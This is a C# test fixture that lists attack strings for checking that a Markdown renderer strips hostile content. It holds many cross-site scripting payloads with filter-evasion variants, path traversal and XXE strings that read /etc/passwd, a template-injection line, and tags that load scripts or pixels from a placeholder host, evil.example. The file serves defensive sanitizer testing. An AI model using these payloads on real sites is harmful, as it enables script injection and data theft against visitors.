namespace Shirube.Knowledge.Tests.Markdown;

/// <summary>Texts that try to bring something onto the page that must not be there. Written for this product, class by class.</summary>
internal static class Attacks
{
    private static readonly string[] Addresses =
    [
        "javascript:alert(1)", "JaVaScRiPt:alert(1)", "javascript&colon;alert(1)", "javascript&#58;alert(1)", "javascript&#x3a;alert(1)",
        "&#106;avascript:alert(1)", "&#x6A;&#x61;vascript:alert(1)", "java&Tab;script:alert(1)", "java&NewLine;script:alert(1)", "java\tscript:alert(1)",
        "&#1;javascript:alert(1)", "&#32;javascript:alert(1)", "&nbsp;javascript:alert(1)", "\u200Bjavascript:alert(1)", "java\u00ADscript:alert(1)",
        "%6Aavascript:alert(1)", "javascript\\:alert(1)", "javascript://portal.example/%0aalert(1)", "javascript:%61lert(1)", "ｊavascript:alert(1)",
        "javascript：alert(1)", "vbscript:msgbox(1)", "livescript:x", "data:text/html,<b>x", "data:text/html;base64,PHNjcmlwdD4=", "DATA:image/svg+xml,%3Csvg%3E",
        "file:///etc/passwd", "blob:https://portal.example/1", "filesystem:https://portal.example/x", "about:blank", "view-source:https://portal.example",
        "ftp://files.example/x", "tel:119", "sms:119", "ws://evil.example", "intent://x#Intent;end", "ms-settings:", "chrome://settings", "jar:https://evil.example!/x",
        "//evil.example", "///evil.example", "////evil.example", "/\\evil.example", "\\\\evil.example\\share", "\\/evil.example", "https:evil.example",
        "https:/evil.example", "http:///evil.example", "https://?x", "https://@evil.example", "mailto:", "?x=1", "x/y", "../../etc/passwd", "./x", "media/../secret.png",
        "media/%2e%2e%2fsecret", "media/.htaccess", "media/a\"onerror=alert(1)", "media/login.png?x", "media\\login.png",
    ];

    private static readonly string[] Forms =
    [
        "[x]({0})", "[x](<{0}>)", "[x]({0} \"t\")", "![x]({0})", "![x](<{0}> 'onerror=alert(1)')", "[x][r]\n\n[r]: {0}", "[r]\n\n[r]: <{0}>", "![x][r]\n\n[r]: {0}",
        "<{0}>", "x[^1]\n\n[^1]: [y]({0})", "|a|\n|-|\n|[x]({0})|", "> [!NOTE]\n> [x]({0})", "# [x]({0})", "[![x](media/login.png)]({0})", "［[x]({0})］",
    ];

    private static readonly string[] Markup =
    [
        "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<script\n>alert(1)</script\n>", "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<img src=x onerror=alert(1)>", "<img/src=x/onerror=alert(1)>", "<IMG \"\"\"><SCRIPT>alert(1)</SCRIPT>\">", "<svg onload=alert(1)>", "<svg/onload=alert(1)//",
        "<svg><script>alert(1)</script></svg>", "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>", "<svg><animate onbegin=alert(1) attributeName=x>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", "<math href=javascript:alert(1)>x</math>", "<iframe src=javascript:alert(1)></iframe>",
        "<iframe srcdoc='<script>alert(1)</script>'></iframe>", "<object data=javascript:alert(1)></object>", "<embed src=javascript:alert(1)>", "<base href=//evil.example/>",
        "<link rel=stylesheet href=//evil.example/x.css>", "<style>@import '//evil.example';</style>", "<style>*{background:url(//evil.example)}</style>",
        "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>", "<form action=//evil.example><input name=p></form>", "<button formaction=javascript:alert(1)>x</button>",
        "<input autofocus onfocus=alert(1)>", "<select autofocus onfocus=alert(1)>", "<textarea autofocus onfocus=alert(1)>", "<details open ontoggle=alert(1)>",
        "<video><source onerror=alert(1)></video>", "<audio src=x onerror=alert(1)>", "<body onload=alert(1)>", "<html onclick=alert(1)>", "<marquee onstart=alert(1)>",
        "<isindex type=image src=1 onerror=alert(1)>", "<template><script>alert(1)</script></template>", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<title><script>alert(1)</script></title>", "<xmp><script>alert(1)</script></xmp>", "<plaintext>", "<a href=javascript:alert(1)>x</a>", "<a href=\"java\nscript:alert(1)\">x</a>",
        "<div style=\"background:url(javascript:alert(1))\">x</div>", "<div onmouseover=alert(1)>x</div>", "<p id=x class=y>z</p>", "<b onclick=alert(1)>x</b>",
        "<!-- x --><script>alert(1)</script>", "<!--><script>alert(1)</script>", "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>", "<?php echo 1 ?>", "<?xml-stylesheet href=x?>",
        "<![CDATA[<script>alert(1)</script>]]>", "</p><script>alert(1)</script>", "</div></main><script>alert(1)</script>", "<x onclick=alert(1)>y</x>", "<custom-element></custom-element>",
        "<script>alert(1)", "<img src=x onerror=alert(1)", "<a href='javascript:alert(1)'", "<<script>alert(1)//<</script>", "< script >alert(1)</ script >", "<\u0000script>alert(1)</script>",
        "&lt;script&gt;alert(1)&lt;/script&gt;", "&amp;lt;script&amp;gt;", "&#60;script&#62;alert(1)&#60;/script&#62;", "&#x3c;img src=x onerror=alert(1)&#x3e;", "＜script＞alert(1)＜/script＞",
    ];

    private static readonly string[] Escapes =
    [
        "[x](/a \"\\\" onclick=alert(1) x=\\\"\")", "[x](/a 'a\" onclick=\"alert(1)')", "![\" onerror=\"alert(1)](media/login.png)", "![x](media/login.png \"\\\" onerror=alert(1)\")",
        "![a\n\nb](media/login.png)", "![<script>](media/login.png)", "![![x](javascript:alert(1))](media/login.png)", "![[x](javascript:alert(1))](media/login.png)", "[x](/a\"onclick=alert(1))",
        "[x](<a\" onclick=alert(1)>)", "[x](https://a.example/\"onclick=alert(1))", "[x](https://a.example/'><script>alert(1)</script>)", "<https://a.example/\"><script>alert(1)</script>>",
        "<https://a.example/'onclick='alert(1)>", "<a\"onclick=alert(1)@example.com>", "https://a.example/\"onclick=alert(1)", "www.example.com/\"><script>alert(1)</script>",
        "``` \"><script>alert(1)</script>\nx\n```", "```js\" onclick=\"alert(1)\nx\n```", "~~~ {onclick=alert(1)}\nx\n~~~", "```mermaid\nclick A \"javascript:alert(1)\"\n```", "```html\n<script>alert(1)</script>\n```",
        "`<script>alert(1)</script>`", "`` ` <img src=x onerror=alert(1)> ``", "    <script>alert(1)</script>", "# \" onclick=\"alert(1)", "# <script>alert(1)</script>", "# x {#a onclick=alert(1)}",
        "# t {onclick=alert(1)}", "p {style=\"background:url(//evil.example)\"}\n", "*x*{onmouseover=alert(1)}", "[x](/a){target=_blank onclick=alert(1)}", "![x](media/login.png){onerror=alert(1)}",
        "| a {onclick=alert(1)} |\n|:-:|\n| <img src=x onerror=alert(1)> |", "|a|b|\n|:-:|-:|\n|\"|'|", "| x |\n| - |\n| [x](javascript:alert(1)) `|` |", "+---+\n| a |\n+---+",
        "> [!\"><script>alert(1)</script>]\n> x", "> [!NOTE\" onclick=alert(1)]\n> x", "> [!note onclick=alert(1)]\n> x", "> [!WARNING]<script>alert(1)</script>\n> x", "［<script>alert(1)</script>］",
        "［\" onclick=\"alert(1)］", "［［x］］［［", "［x\n］", "［" + "x" + "］(javascript:alert(1))", "[^\"><script>alert(1)</script>]\n\n[^\"><script>alert(1)</script>]: x", "x[^a]\n\n[^a]: <script>alert(1)</script>",
        "x[^1] y[^1] z[^1]\n\n[^1]: n", "- [x] <script>alert(1)</script>", "- [\"] x", "99999999999999999999. x", "-1. x", "2147483648. x", "[a [b](/c) d](/e)", "[a <https://b.example> c](/d)", "[a https://b.example c](/d)",
        "[![a](javascript:alert(1))](javascript:alert(2))", "[a](/b \"c\" onclick=alert(1))", "[a]: javascript:alert(1)\n[a]", "[a]: <javascript:alert(1)> \"t\"\n\n![a]", "[\u202Egnp.tpircs]: /x\n\n[\u202Egnp.tpircs]",
        "# a\n# a\n# a-2\n# a", "# fn:1\n\nx[^1]\n\n[^1]: y", "# fnref:1\n\nx[^1]\n\n[^1]: y", "## main\n\n## main", "# \u0000", "# \u2028x", "\uD800 [x](/\uDC00)", "# \uD83D", "\u0001\u0002\u0003\u001B[31mred", "\u202Ereversed\u202C",
        "::: {onclick=alert(1)}\nx\n:::", "$$\\href{javascript:alert(1)}{x}$$", "![video](https://www.youtube.com/watch?v=x)", "![x](https://evil.example/pixel.gif)", "![x](http://evil.example/a.png \"t\")", "^^^ javascript:alert(1)\nx\n^^^",
        "*[abbr]: \" onclick=\"alert(1)\n\nabbr", "==x== ++y++ ~~z~~ ^a^ ~b~", "Term\n:   <script>alert(1)</script>", "\"\"cite\"\"", ":smile: :script:", "[[javascript:alert(1)]]", "{{constructor.constructor('alert(1)')()}}", "@{ throw new Exception(); }",
        "***<b>***x***</b>***", "*<script*>alert(1)</script*>", "[x](javascript:alert(1)//)", "[x](  javascript:alert(1)  )", "[x]()", "[](javascript:alert(1))", "![]()", "[x](#\"onclick=alert(1))", "[x](/articles/1\"><script>)",
    ];

    /// <summary>All of them: each address in each form, and those written out.</summary>
    public static IReadOnlyList<string> All { get; } =
    [
        .. Addresses.SelectMany(address => Forms.Select(form => form.Replace("{0}", address, StringComparison.Ordinal))), .. Markup, .. Markup.Select(markup => $"- a\n\n  {markup}\n\nb *{markup}* c"), .. Escapes,
    ];
}
